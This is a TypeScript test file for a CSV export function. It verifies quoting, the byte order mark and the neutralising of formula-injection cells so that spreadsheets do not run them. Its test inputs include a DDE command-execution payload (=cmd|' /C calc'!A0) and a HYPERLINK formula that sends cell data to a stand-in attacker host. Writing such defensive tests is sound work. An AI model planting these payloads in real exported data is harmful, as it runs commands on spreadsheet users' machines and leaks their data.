import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type Cell, toCsv } from './csv.ts'

/** Parses RFC 4180 without a library: quoted fields may hold anything, a quote is written twice. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (field.lastIndex < text.length) {
    const match = field.exec(text)
    if (match === null) throw new Error('not RFC 4180')
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

/**
 * The cells as a spreadsheet with this list separator reads them: a quotation mark counts at the beginning of a cell,
 * and text after the closing one is read as it is.
 */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = []
  for (let at = 0; at < text.length; ) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at]
        else if (text[at + 1] === '"') cell += text[at++]
        else break
      }
      at += 1
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r') cell += text[at++]
    cells.push(cell)
    at += 1
  }
  return cells
}

const live = /^[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u

/** The row of the file after the header, as text. */
function rowOf(cells: readonly Cell[], options: Parameters<typeof toCsv>[2] = {}): string {
  const file = toCsv(['header'], [cells], options)
  return file.slice(file.indexOf('\n') + 1)
}

describe('toCsv', () => {
  test('writes CRLF after each line, numbers as numbers, null as nothing', () => {
    const rows = [
      ['Saber, "Squad"', 3, null],
      ['two\nlines', -1.5, ''],
    ]
    expect(toCsv(['name', 'seed', 'note'], rows)).toBe(
      'name,seed,note\r\n"Saber, ""Squad""",3,\r\ntwo / lines,-1.5,\r\n',
    )
  })

  test('writes a header alone', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n')
  })

  test('begins with a byte order mark where a spreadsheet is to open it, or it always does', () => {
    for (const options of [{ for: 'spreadsheet' }, { hasMark: true }] as const) {
      expect([...Buffer.from(toCsv(['é'], [], options))].slice(0, 5)).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9])
    }
  })

  test('keeps long identifiers from being rounded, for spreadsheets alone', () => {
    const cells = ['123456789012345', '1234567890123456', '1234567890123456x', 1234567890123456]
    expect(rowOf(cells)).toBe('123456789012345,1234567890123456,1234567890123456x,1234567890123456\r\n')
    expect(rowOf(cells, { for: 'spreadsheet' })).toBe(
      "123456789012345,'1234567890123456,1234567890123456x,1234567890123456\r\n",
    )
  })

  test('loses nothing but line breaks, whatever the text', () => {
    // A cell that is never empty, so that a row is never a blank line; apostrophes are added on purpose.
    const cell = fc.string({ unit: 'binary' }).map((text) => `x${text.replaceAll(/['\n\v\f\r\x85\u2028\u2029]/g, '')}`)
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 })), (rows) => {
        const read = parseCsv(toCsv(['a', 'b', 'c'], rows)).map((row) => row.map((text) => text.replaceAll("'", '')))
        expect(read).toEqual([['a', 'b', 'c'], ...rows])
      }),
    )
  })
})

describe('a cell that a spreadsheet would run', () => {
  test.each([
    ...[
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '  =1',
      '\u00A0=1',
      '\u200B=1',
      '＝1',
      '＋1',
      '－1',
      '＠A',
      '\u22121',
      '-',
    ],
    ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', '"=1"'],
  ])('%j gets an apostrophe', (text) => {
    expect(parseCsv(rowOf([text]))[0]?.[0]?.startsWith("'")).toBe(true)
  })

  test.each([
    ['Nice;=1+1;team', "Nice;'=1+1;team"],
    ['a,=1', "a,'=1"],
    ['a\t=1', "a\t'=1"],
    ['a; @x;;-1', "a;' @x;;'-1"],
    ['a;"=1', `a;'"=1`],
    ['a\n=1', 'a / =1'],
    ['=a\r\n=1', "'=a / =1"],
    ['1,2,3', '1,2,3'],
    ['a;b, c\td', 'a;b, c\td'],
  ])('%j is written %j', (text, written) => {
    expect(parseCsv(rowOf([text]))).toEqual([[written]])
  })

  test.each(['a=1', '1-2', 'a@b.example', "'x", ' a', '3', '(=1)'])('%j is none', (text) => {
    expect(parseCsv(rowOf([text]))).toEqual([[text]])
  })

  test.each([...['\t', ' \t', ';\t', '\t"', '\u200B\t', ',', '"', ' ', '\uFEFF']])(
    'is found in a time that grows with the text and not with its square, among many %j',
    { retry: 5 },
    (piece) => {
      const microsecondsFor = (length: number) => {
        const text = `a${piece.repeat(length / piece.length)}a`
        // Processor time, so that a busy machine does not matter.
        const times = Array.from({ length: 7 }, () => {
          const began = process.cpuUsage()
          rowOf([text])
          const { user, system } = process.cpuUsage(began)
          return user + system
        })
        return Math.min(...times)
      }
      // Both are longer than the 128 KiB from which the engine keeps strings elsewhere, at a higher price.
      const few = microsecondsFor(160_000)
      // Four times the input; quadratic time would be sixteen times.
      expect(microsecondsFor(640_000) / few).toBeLessThan(9)
    },
  )

  test.each([
    ['a\t\t=1', "a\t\t'=1"],
    ['a,\t =1', "a,\t' =1"],
    ['\t\t=1', "'\t\t'=1"],
    ['a;\uFEFF\u200B"=1', `a;'\uFEFF\u200B"=1`],
  ])('%j, with tabs or unseen signs between, is written %j', (text, written) => {
    expect(parseCsv(rowOf([text]))).toEqual([[written]])
  })

  test('is none when it is a number', () => {
    expect(rowOf([-1, 1e21, 0, 0.1])).toBe('-1,1e+21,0,0.1\r\n')
  })

  test('may be in the header too', () => {
    expect(toCsv(['=1'], [])).toBe("'=1\r\n")
  })

  test.each([',', ';', '\t'])('begins nowhere when the file is read with %j', (separator) => {
    const pieces = [
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＠',
      ',',
      ';',
      '\t',
      '\n',
      '\r\n',
      '\u2028',
      '"',
      '""',
      "'",
      ' ',
      '\u200B',
      'a',
      '1',
    ]
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map((parts) => parts.join(''))
    const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { maxLength: 4 })
    fc.assert(
      fc.property(rows, fc.constantFrom('spreadsheet' as const, undefined), (table, purpose) => {
        const file = toCsv(['a', 'b'], table, { for: purpose }).replace(/^\uFEFF/, '')
        expect(cellsOf(file, separator).filter((cell) => live.test(cell))).toEqual([])
      }),
      { numRuns: 5_000 },
    )
  })
})
